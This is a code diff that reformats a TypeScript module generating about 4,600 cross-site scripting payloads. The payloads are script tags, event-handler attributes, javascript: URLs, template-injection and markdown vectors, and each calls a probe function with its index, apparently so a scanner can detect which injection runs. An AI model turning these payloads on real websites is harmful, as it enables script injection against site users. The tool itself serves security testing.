@@ -2,26 +2,102 @@
 export const probe = 'xq'
 
 /** Ends of what a value may stand in: an attribute, a script, a comment, a template of some kind. */
-const breakouts = ['', '">', '\'>', '"/>', '` ', '-->', ']]>', '*/', '}}', '\\"', '</script>', '</style>', '</textarea>', '</title>', '</noscript>', '</svg>', '</a>', '{% endraw %}']
+const breakouts = [
+  '',
+  '">',
+  "'>",
+  '"/>',
+  '` ',
+  '-->',
+  ']]>',
+  '*/',
+  '}}',
+  '\\"',
+  '</script>',
+  '</style>',
+  '</textarea>',
+  '</title>',
+  '</noscript>',
+  '</svg>',
+  '</a>',
+  '{% endraw %}',
+]
 
 /** Markup that runs the probe when a browser takes it for markup. */
 const bodies = [
-  '<script>xq(#)</script>', '<ScRiPt>xq(#)</sCrIpT>', '<img src=x onerror=xq(#)>', '<img/src/onerror=xq(#)>', '<svg onload=xq(#)>', '<svg><script>xq(#)</script></svg>',
-  '<iframe srcdoc="<script>parent.xq(#)</script>"></iframe>', '<iframe src="javascript:parent.xq(#)"></iframe>', '<details open ontoggle=xq(#)>', '<video><source onerror=xq(#)></video>',
-  '<audio src=x onerror=xq(#)>', '<input autofocus onfocus=xq(#)>', '<select autofocus onfocus=xq(#)>', '<body onload=xq(#)>', '<object data="javascript:xq(#)">', '<embed src="javascript:xq(#)">',
-  '<a href="javascript:xq(#)">x</a>', '<a href="java&#9;script:xq(#)">x</a>', '<form action="javascript:xq(#)"><button>x</button></form>', '<button formaction="javascript:xq(#)">x</button>',
-  '<math><a xlink:href="javascript:xq(#)">x</a></math>', '<style onload=xq(#)></style>', '<link rel=stylesheet href=x onerror=xq(#)>', '<meta http-equiv=refresh content="0;url=javascript:xq(#)">',
-  '<svg><animate onbegin=xq(#) attributeName=x dur=1s>', '<p onclick=xq(#)>x</p>', '<template><img src=x onerror=xq(#)></template>', '<noscript><p title="</noscript><img src=x onerror=xq(#)>">',
-  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xq(#)&gt;">', '<svg></p><style><a id="</style><img src=x onerror=xq(#)>">',
+  '<script>xq(#)</script>',
+  '<ScRiPt>xq(#)</sCrIpT>',
+  '<img src=x onerror=xq(#)>',
+  '<img/src/onerror=xq(#)>',
+  '<svg onload=xq(#)>',
+  '<svg><script>xq(#)</script></svg>',
+  '<iframe srcdoc="<script>parent.xq(#)</script>"></iframe>',
+  '<iframe src="javascript:parent.xq(#)"></iframe>',
+  '<details open ontoggle=xq(#)>',
+  '<video><source onerror=xq(#)></video>',
+  '<audio src=x onerror=xq(#)>',
+  '<input autofocus onfocus=xq(#)>',
+  '<select autofocus onfocus=xq(#)>',
+  '<body onload=xq(#)>',
+  '<object data="javascript:xq(#)">',
+  '<embed src="javascript:xq(#)">',
+  '<a href="javascript:xq(#)">x</a>',
+  '<a href="java&#9;script:xq(#)">x</a>',
+  '<form action="javascript:xq(#)"><button>x</button></form>',
+  '<button formaction="javascript:xq(#)">x</button>',
+  '<math><a xlink:href="javascript:xq(#)">x</a></math>',
+  '<style onload=xq(#)></style>',
+  '<link rel=stylesheet href=x onerror=xq(#)>',
+  '<meta http-equiv=refresh content="0;url=javascript:xq(#)">',
+  '<svg><animate onbegin=xq(#) attributeName=x dur=1s>',
+  '<p onclick=xq(#)>x</p>',
+  '<template><img src=x onerror=xq(#)></template>',
+  '<noscript><p title="</noscript><img src=x onerror=xq(#)>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=xq(#)&gt;">',
+  '<svg></p><style><a id="</style><img src=x onerror=xq(#)>">',
 ]
 
 /** What opens no tag: breaks out of attributes, scripts, addresses, and of templates that calculate. */
 const others = [
-  '" onmouseover=xq(#) x="', '\' onmouseover=xq(#) x=\'', '" autofocus onfocus=xq(#) x="', '` onmouseover=xq(#) `', '" style="animation-name:x" onanimationstart="xq(#)', 'javascript:xq(#)', 'JaVaScRiPt:xq(#)',
-  'javascript://%0axq(#)', 'data:text/html,<script>xq(#)</script>', 'data:text/html;base64,PHNjcmlwdD54cSgwKTwvc2NyaXB0Pg== #', 'vbscript:xq(#)', '\';xq(#);//', '";xq(#);//', '\\\';xq(#);//', '\\";xq(#);//',
-  '</script><script>xq(#)//', '<!--<script>xq(#)//', '*/xq(#)/*', '${xq(#)}', '`${xq(#)}`', '#{xq(#)}', '{{xq(#)}}', '{{constructor.constructor("xq(#)")()}}', '{{{xq(#)}}}', '<%= xq(#) %>', '[[${xq(#)}]]',
-  '{% assign x = "xq(#)" %}{{ x }}', '{0, plural, other {xq(#)}}', '<0>xq(#)</0>', '$&xq(#)$\'$`', '%3Cscript%3Exq(#)%3C/script%3E', 'x:expression(xq(#))', 'url("javascript:xq(#)")', '}*{background:url(javascript:xq(#))}',
-  '[x](javascript:xq(#))', '![x](x"onerror="xq(#))', '<https://x.test/"onclick="xq(#)>', 'https://x.test/"onmouseover="xq(#)', 'x@x.test"onclick="xq(#)',
+  '" onmouseover=xq(#) x="',
+  "' onmouseover=xq(#) x='",
+  '" autofocus onfocus=xq(#) x="',
+  '` onmouseover=xq(#) `',
+  '" style="animation-name:x" onanimationstart="xq(#)',
+  'javascript:xq(#)',
+  'JaVaScRiPt:xq(#)',
+  'javascript://%0axq(#)',
+  'data:text/html,<script>xq(#)</script>',
+  'data:text/html;base64,PHNjcmlwdD54cSgwKTwvc2NyaXB0Pg== #',
+  'vbscript:xq(#)',
+  "';xq(#);//",
+  '";xq(#);//',
+  "\\';xq(#);//",
+  '\\";xq(#);//',
+  '</script><script>xq(#)//',
+  '<!--<script>xq(#)//',
+  '*/xq(#)/*',
+  '${xq(#)}',
+  '`${xq(#)}`',
+  '#{xq(#)}',
+  '{{xq(#)}}',
+  '{{constructor.constructor("xq(#)")()}}',
+  '{{{xq(#)}}}',
+  '<%= xq(#) %>',
+  '[[${xq(#)}]]',
+  '{% assign x = "xq(#)" %}{{ x }}',
+  '{0, plural, other {xq(#)}}',
+  '<0>xq(#)</0>',
+  "$&xq(#)$'$`",
+  '%3Cscript%3Exq(#)%3C/script%3E',
+  'x:expression(xq(#))',
+  'url("javascript:xq(#)")',
+  '}*{background:url(javascript:xq(#))}',
+  '[x](javascript:xq(#))',
+  '![x](x"onerror="xq(#))',
+  '<https://x.test/"onclick="xq(#)>',
+  'https://x.test/"onmouseover="xq(#)',
+  'x@x.test"onclick="xq(#)',
 ]
 
 const hex = (character: string) => character.charCodeAt(0).toString(16)
@@ -42,5 +118,8 @@ const spellings: readonly ((text: string) => string)[] = [
 /** Returns about 4,600 different strings that would run a script somewhere, each of which calls `probe` with its place in the list. */
 export function scriptInjections(): string[] {
   const tags = breakouts.flatMap((breakout) => bodies.map((body) => breakout + body))
-  return spellings.flatMap((spell) => [...tags, ...others].map(spell)).filter((text, at, all) => all.indexOf(text) === at).map((text, at) => text.replaceAll('(#)', `(${at})`).replaceAll(' #', ` ${at}`))
+  return spellings
+    .flatMap((spell) => [...tags, ...others].map(spell))
+    .filter((text, at, all) => all.indexOf(text) === at)
+    .map((text, at) => text.replaceAll('(#)', `(${at})`).replaceAll(' #', ` ${at}`))
 }
